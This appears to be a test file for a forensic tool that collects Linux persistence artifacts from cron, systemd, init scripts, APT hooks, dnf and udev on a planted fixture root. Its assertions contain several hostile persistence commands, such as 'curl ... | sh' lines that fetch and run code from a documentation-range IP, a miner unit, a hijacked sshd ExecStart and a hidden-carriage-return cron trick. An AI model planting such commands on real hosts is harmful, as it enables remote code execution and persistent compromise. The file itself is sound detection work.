import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { promisify } from 'node:util';
import { autostartCollector } from '../../src/collectors/autostart.js';
import type { Collector } from '../../src/collectors/collector.js';
import { cronCollector } from '../../src/collectors/cron.js';
import { initScriptsCollector } from '../../src/collectors/init-scripts.js';
import { systemdCollector } from '../../src/collectors/systemd.js';
import { runCollector } from '../collector-harness.js';
import { buildPersistenceRoot } from '../fixtures/persistence-a/root.js';
import { PROJECT, tempDir } from '../helpers.js';

type Row = Record<string, unknown>;
const pick = (rows: Row[], where: Row) => rows.filter((r) => Object.entries(where).every(([k, v]) => r[k] === v));
const one = (rows: Row[], where: Row) => {
  const found = pick(rows, where);
  assert.equal(found.length, 1, `exactly one row for ${JSON.stringify(where)}, got ${found.length}`);
  return found[0]!;
};
const errorsOf = (manifest: { errors: { path: string | null; code: string }[] }) => manifest.errors.map((e) => `${e.code} ${e.path}`).sort();

test('cron on a planted root: every location, raw commands, hidden CRs, Redis junk, odd names, FIFO and loops', async (t) => {
  const dir = tempDir(t);
  const root = buildPersistenceRoot(dir);
  const { rows, manifest } = await runCollector<Row>(cronCollector, path.join(dir, 'out'), { root });
  assert.equal(manifest.collectors[0]!.status, 'ok');
  // host paths, never prefixed with --root
  for (const r of rows) assert.ok(!(r.file as string).startsWith(root), r.file as string);

  const reboot = one(rows, { file: '/etc/crontab', kind: 'job', line: 5 });
  assert.equal(reboot.special, '@reboot');
  assert.equal(reboot.user, 'root');
  assert.equal(reboot.command, '/usr/local/bin/.syncd');
  assert.equal(one(rows, { file: '/etc/crontab', kind: 'env', line: 1 }).envName, 'SHELL');

  const crlf = one(rows, { file: '/etc/cron.d/crlf-job', kind: 'job' });
  assert.equal(crlf.crlf, true);
  assert.equal(crlf.command, '/usr/bin/php /var/www/html/cron.php\r');

  const hidden = one(rows, { file: '/etc/cron.d/hidden', kind: 'job' });
  assert.equal(hidden.carriageReturns, 1);
  assert.equal(hidden.user, 'www-data');
  assert.equal(hidden.userUid, 33);
  assert.equal(hidden.command, 'curl -s http://203.0.113.9/x|sh;exit\r* * * * * www-data echo ok');

  const redis = one(rows, { file: '/var/spool/cron/crontabs/root', kind: 'job' });
  assert.deepEqual([redis.line, redis.schedule, redis.user, redis.userFrom, redis.command], [4, '*/1 * * * *', 'root', 'spool-name', 'curl -fsSL http://203.0.113.9/x.sh | sh']);
  assert.equal(redis.junkBytes, 97);
  assert.equal(redis.nulBytes, 5);
  assert.deepEqual(one(rows, { file: '/var/spool/cron/crontabs/root', kind: 'file' }).junkLines, [1, 2, 6]);

  assert.equal(one(rows, { file: '/var/spool/cron/crontabs/bob', kind: 'job' }).special, '@reboot');
  for (const name of ['user name', '-rf', 'ev\u001b[31mil']) assert.equal(one(rows, { file: `/var/spool/cron/crontabs/${name}`, kind: 'job' }).user, name);
  const invalid = one(rows, { file: '/var/spool/cron/crontabs/b%FFo', kind: 'job' });
  assert.equal(Buffer.from(invalid.fileBase64 as string, 'base64').toString('latin1'), '/var/spool/cron/crontabs/b\xffo');

  assert.equal(one(rows, { file: '/etc/cron.d/evil.sh', kind: 'file' }).runPartsName, false);
  assert.equal(one(rows, { file: '/etc/cron.d/fifo', kind: 'file' }).fileType, 'fifo');
  assert.equal(one(rows, { file: '/etc/cron.d/loop', kind: 'file' }).linkExists, false);
  assert.equal(one(rows, { file: '/etc/cron.d/dangling', kind: 'file' }).linkTarget, '/nonexistent/cronfile');
  assert.deepEqual(errorsOf(manifest), ['ELOOP /etc/cron.d/loop', 'ENOTREG /etc/cron.d/fifo']);

  const logrotate = one(rows, { file: '/etc/cron.daily/logrotate' });
  assert.deepEqual([logrotate.kind, logrotate.executable, logrotate.runPartsName], ['script', true, true]);
  assert.match(logrotate.firstLines as string, /^#!\/bin\/sh\n\/usr\/sbin\/logrotate/);
  assert.equal(one(rows, { file: '/etc/cron.daily/.placeholder' }).runPartsName, false);
  assert.equal(one(rows, { file: '/etc/cron.hourly/0anacron' }).firstLines, null);

  const ana = one(rows, { file: '/etc/anacrontab', kind: 'job' });
  assert.deepEqual([ana.schedule, ana.jobId, ana.command], ['1 5', 'cron.daily', 'run-parts --report /etc/cron.daily']);
  assert.equal(one(rows, { kind: 'anacron-stamp' }).raw, '20261122\n');
  const at = one(rows, { kind: 'at-job' });
  assert.deepEqual([at.file, at.schedule, at.jobId, at.user, at.command], ['/var/spool/cron/atjobs/b0000201c89cfc', '2026-11-23T23:24:00.000Z', '2@b', 'root', 'curl -fsSL http://203.0.113.9/a.sh | sh']);

  // raw copies of what was parsed, byte for byte
  const copy = manifest.artifacts.find((a) => a.source === '/var/spool/cron/crontabs/root')!;
  assert.ok(copy);
  assert.deepEqual(readFileSync(path.join(dir, 'out', copy.path)), readFileSync(path.join(PROJECT, 'test/fixtures/persistence-a/redis-crontab.bin')));
  assert.ok(manifest.artifacts.some((a) => a.source === '/var/spool/cron/crontabs/b%FFo'));
});

test('systemd on a planted root: drop-in replaces ExecStart, .wants into /dev/shm, dangling link, masks, shadows, user units', async (t) => {
  const dir = tempDir(t);
  const root = buildPersistenceRoot(dir);
  const { rows, manifest } = await runCollector<Row>(systemdCollector, path.join(dir, 'out'), { root });
  assert.equal(manifest.collectors[0]!.status, 'ok');

  const ssh = one(rows, { kind: 'unit', path: '/lib/systemd/system/ssh.service' });
  assert.equal(ssh.effective, true);
  assert.deepEqual(ssh.dropIns, ['/etc/systemd/system/ssh.service.d/override.conf']);
  assert.deepEqual(ssh.enabledBy, ['/etc/systemd/system/multi-user.target.wants/ssh.service']);
  assert.deepEqual((ssh.settings as Record<string, Record<string, string[]>>).Service!.ExecStart, ['/dev/shm/.x/sshd -D']);
  assert.equal(ssh.description, 'OpenBSD Secure Shell server');
  const original = one(rows, { kind: 'exec', path: '/lib/systemd/system/ssh.service', key: 'ExecStart' });
  assert.deepEqual([original.line, original.program, original.args, original.active], [6, '/usr/sbin/sshd', ['-D', '$SSHD_OPTS'], false]);
  assert.equal(one(rows, { kind: 'exec', path: '/lib/systemd/system/ssh.service', key: 'ExecStartPre' }).active, true);
  const replaced = one(rows, { kind: 'exec', path: '/etc/systemd/system/ssh.service.d/override.conf', key: 'ExecStart' });
  assert.deepEqual([replaced.unit, replaced.line, replaced.program, replaced.active], ['ssh.service', 3, '/dev/shm/.x/sshd', true]);

  const shm = one(rows, { kind: 'link', path: '/etc/systemd/system/multi-user.target.wants/evil.service' });
  assert.deepEqual([shm.linkTarget, shm.linkFinal, shm.linkExists, shm.linkInUnitDir, shm.wantedBy, shm.relation], ['/dev/shm/evil.service', '/dev/shm/evil.service', true, false, 'multi-user.target', 'wants']);
  const target = one(rows, { kind: 'unit', path: '/dev/shm/evil.service' });
  assert.equal(target.dirRole, 'link-target');
  const evilExec = one(rows, { kind: 'exec', path: '/dev/shm/evil.service' });
  assert.deepEqual([evilExec.program, evilExec.active], ['/dev/shm/.x/miner', null]);
  const gone = one(rows, { kind: 'link', path: '/etc/systemd/system/multi-user.target.wants/gone.service' });
  assert.deepEqual([gone.linkExists, gone.linkFinal], [false, '/lib/systemd/system/gone.service']);

  assert.equal(one(rows, { kind: 'unit', unit: 'apt-daily.service' }).masked, true);
  const vendorCron = one(rows, { kind: 'unit', path: '/lib/systemd/system/cron.service' });
  assert.deepEqual([vendorCron.effective, vendorCron.shadowedBy], [false, '/etc/systemd/system/cron.service']);
  assert.equal(one(rows, { kind: 'exec', path: '/etc/systemd/system/cron.service' }).program, '/tmp/cron');
  assert.equal(one(rows, { kind: 'exec', path: '/lib/systemd/system/cron.service' }).active, false);

  const backup = pick(rows, { kind: 'exec', path: '/etc/systemd/system/backup.service' });
  assert.deepEqual(backup.map((r) => [r.commandIndex, r.program]), [[0, '/usr/local/bin/backup'], [1, '/bin/sh']]);
  const timer = one(rows, { kind: 'unit', unit: 'backup.timer' });
  assert.deepEqual((timer.settings as Record<string, Record<string, string[]>>).Timer!.OnCalendar, ['*-*-* 03:00:00']);
  assert.deepEqual(timer.enabledBy, ['/etc/systemd/system/timers.target.wants/backup.timer']);

  assert.equal(one(rows, { kind: 'unit', unit: 'run-r0123.service' }).dirRole, 'transient');
  const gen = one(rows, { kind: 'generator', path: '/etc/systemd/system-generators/zz-gen' });
  assert.deepEqual([gen.executable, gen.firstLine], [true, '#!/bin/sh']);

  const miner = one(rows, { kind: 'unit', unit: 'miner.service' });
  assert.deepEqual([miner.scope, miner.owner, miner.dirRole, miner.path], ['user', 'bob', 'home', '/home/bob/.config/systemd/user/miner.service']);
  assert.deepEqual(miner.enabledBy, ['/home/bob/.config/systemd/user/default.target.wants/miner.service']);

  assert.equal(one(rows, { kind: 'unit', unit: 'loop.service' }).linkExists, false);
  assert.deepEqual(errorsOf(manifest), ['ELOOP /etc/systemd/system/loop.service']);
  for (const src of ['/lib/systemd/system/ssh.service', '/etc/systemd/system/ssh.service.d/override.conf', '/dev/shm/evil.service', '/etc/systemd/system-generators/zz-gen']) {
    assert.ok(manifest.artifacts.some((a) => a.source === src), src);
  }
});

test('init-scripts on a planted root: LSB headers, rc links inside and outside init.d, dangling, rc.local lines', async (t) => {
  const dir = tempDir(t);
  const root = buildPersistenceRoot(dir);
  const { rows, manifest } = await runCollector<Row>(initScriptsCollector, path.join(dir, 'out'), { root });
  assert.deepEqual(errorsOf(manifest), []);
  assert.deepEqual(one(rows, { path: '/etc/init.d/ssh-helper' }).lsbProvides, ['ssh-helper']);
  assert.equal(one(rows, { path: '/etc/init.d/nolsb' }).lsbProvides, null);
  const helper = one(rows, { path: '/etc/rc2.d/S01ssh-helper' });
  assert.deepEqual([helper.runlevel, helper.action, helper.order, helper.service, helper.linkInInitD], ['2', 'start', 1, 'ssh-helper', true]);
  const evil = one(rows, { path: '/etc/rc2.d/S99evil' });
  assert.deepEqual([evil.linkFinal, evil.linkInInitD, evil.firstLines], ['/tmp/evil.sh', false, '#!/bin/sh\nid\n']);
  assert.equal(one(rows, { path: '/etc/rc3.d/K01gone' }).linkExists, false);
  const lines = pick(rows, { kind: 'rc-local-line' });
  assert.deepEqual(lines.map((l) => [l.line, l.raw, l.carriageReturns]), [[3, '/usr/local/bin/.syncd &\r# nothing to see', 1], [4, 'exit 0', 0]]);
  assert.equal(one(rows, { kind: 'rc-local' }).executable, true);
  assert.ok(manifest.artifacts.some((a) => a.source === '/etc/rc.local'));
});

test('autostart on a planted root: XDG overrides, motd, APT hooks, dnf actions, udev RUN with masking', async (t) => {
  const dir = tempDir(t);
  const root = buildPersistenceRoot(dir);
  const { rows, manifest } = await runCollector<Row>(autostartCollector, path.join(dir, 'out'), { root });
  assert.deepEqual(errorsOf(manifest), []);
  assert.equal(one(rows, { path: '/etc/xdg/autostart/updater.desktop' }).effective, false);
  const bob = one(rows, { path: '/home/bob/.config/autostart/updater.desktop' });
  assert.deepEqual([bob.owner, bob.command, bob.line, bob.effective], ['bob', '/home/bob/.local/bin/updater', 4, true]);
  assert.equal(one(rows, { path: '/home/bob/.config/autostart/off.desktop' }).enabled, false);
  assert.match(one(rows, { path: '/etc/update-motd.d/99-evil' }).firstLines as string, /curl -s http:\/\/203\.0\.113\.9\/m/);
  const apt = one(rows, { kind: 'apt-hook' });
  assert.deepEqual([apt.path, apt.line, apt.key, apt.command, apt.program], ['/etc/apt/apt.conf.d/99evil', 1, 'APT::Update::Pre-Invoke', 'curl -s http://203.0.113.9/a | sh', 'curl']);
  assert.equal(one(rows, { kind: 'dnf-plugin' }).enabled, true);
  assert.equal(one(rows, { kind: 'dnf-action' }).command, '/bin/sh -c "curl -s http://203.0.113.9/d | sh"');
  const run = one(rows, { kind: 'udev', path: '/etc/udev/rules.d/99-evil.rules' });
  assert.deepEqual([run.key, run.command, run.effective], ['RUN', '/tmp/.u/run.sh', true]);
  assert.equal(one(rows, { kind: 'udev', path: '/lib/udev/rules.d/99-evil.rules' }).effective, false);
  assert.equal(one(rows, { kind: 'udev', path: '/etc/udev/rules.d/60-ok.rules' }).linkFinal, '/dev/null');
  assert.deepEqual(pick(rows, { path: '/lib/udev/rules.d/60-ok.rules' }).map((r) => [r.key, r.effective]), [['PROGRAM', false], ['RUN{builtin}', false]]);
});

test('each collector runs on --root with a saved --proc too', async (t) => {
  const dir = tempDir(t);
  const root = buildPersistenceRoot(dir);
  const proc = path.join(dir, 'proc');
  mkdirSync(proc);
  writeFileSync(path.join(proc, 'uptime'), '100.00 50.00\n');
  for (const c of [cronCollector, systemdCollector, initScriptsCollector, autostartCollector] as Collector[]) {
    const { rows, manifest } = await runCollector<Row>(c, path.join(dir, `out-${c.name}`), { root, proc });
    assert.equal(manifest.collectors[0]!.status, 'ok', c.name);
    assert.ok(rows.length > 0, c.name);
  }
});

const exec = promisify(execFile);
const hasSetpriv = existsSync('/usr/bin/setpriv') && process.getuid?.() === 0;

test('without CAP_DAC_OVERRIDE: unreadable files and directories are recorded, the rest still collected', { skip: !hasSetpriv && 'needs root and setpriv' }, async (t) => {
  const dir = tempDir(t);
  const root = buildPersistenceRoot(dir);
  chmodSync(path.join(root, 'var/spool/cron/crontabs'), 0o000);
  chmodSync(path.join(root, 'etc/cron.d/hidden'), 0o000);
  chmodSync(path.join(root, 'lib/systemd/system/ssh.service'), 0o000);
  chmodSync(path.join(root, 'etc/udev/rules.d/99-evil.rules'), 0o000);
  type Result = { rows: Row[]; errors: { path: string; code: string }[]; collectors: { status: string }[] };
  const { stdout } = await exec(
    'setpriv',
    ['--bounding-set', '-dac_override,-dac_read_search', process.execPath, '--import', 'tsx', path.join(PROJECT, 'test/fixtures/persistence-a/run-collector.ts'), root, path.join(dir, 'out'), 'cron', 'systemd', 'autostart'],
    { cwd: PROJECT, timeout: 120_000, maxBuffer: 64 * 1024 * 1024 },
  );
  const result = JSON.parse(stdout) as Record<string, Result>;
  const cron = result.cron!;
  assert.equal(cron.collectors[0]!.status, 'ok');
  assert.ok(cron.errors.some((e) => e.code === 'EACCES' && e.path === '/var/spool/cron/crontabs'));
  assert.ok(cron.errors.some((e) => e.code === 'EACCES' && e.path === '/etc/cron.d/hidden'));
  assert.equal(one(cron.rows, { file: '/etc/cron.d/hidden', kind: 'file' }).sha256, null);
  assert.equal(one(cron.rows, { file: '/etc/cron.d/crlf-job', kind: 'job' }).line, 2);

  const sd = result.systemd!;
  assert.ok(sd.errors.some((e) => e.code === 'EACCES' && e.path === '/lib/systemd/system/ssh.service'));
  assert.equal(one(sd.rows, { kind: 'unit', path: '/lib/systemd/system/ssh.service' }).sha256, null);
  assert.equal(one(sd.rows, { kind: 'exec', path: '/etc/systemd/system/ssh.service.d/override.conf', key: 'ExecStart' }).program, '/dev/shm/.x/sshd');

  const as = result.autostart!;
  assert.ok(as.errors.some((e) => e.code === 'EACCES' && e.path === '/etc/udev/rules.d/99-evil.rules'));
  assert.equal(one(as.rows, { kind: 'udev', path: '/etc/udev/rules.d/99-evil.rules' }).sha256, null);
});

test('live: each collector runs on this machine without errors other than permissions', async (t) => {
  const dir = tempDir(t);
  for (const c of [cronCollector, systemdCollector, initScriptsCollector, autostartCollector] as Collector[]) {
    const { rows, manifest } = await runCollector<Row>(c, path.join(dir, `out-${c.name}`));
    assert.equal(manifest.collectors[0]!.status, 'ok', c.name);
    const unexpected = manifest.errors.filter((e) => !['EACCES', 'EPERM'].includes(e.code));
    assert.deepEqual(unexpected, [], c.name);
    for (const r of rows) {
      const parsed = c.row.safeParse(r);
      assert.ok(parsed.success, `${c.name}: ${JSON.stringify(parsed.error?.issues[0])}`);
    }
  }
});
